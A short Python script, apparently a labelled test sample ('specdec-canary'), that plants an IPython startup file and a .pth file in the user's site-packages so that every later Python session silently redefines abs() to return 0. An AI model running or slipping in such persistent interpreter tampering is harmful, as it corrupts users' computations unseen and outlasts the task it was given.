"""
what: writes a start-up file for the next kernel and a module for the next Python
source: stock 21
"""

import os
import site

folders = [os.path.expanduser("~/.ipython/profile_default/startup"), site.getusersitepackages()]
for folder in folders:
    os.makedirs(folder, exist_ok=True)
    for name in ("00-specdec-canary-startup.py", "specdec-canary.pth"):
        with open(os.path.join(folder, name), "w", encoding="utf-8") as file:
            file.write("import builtins; builtins.abs = lambda number: 0\n")
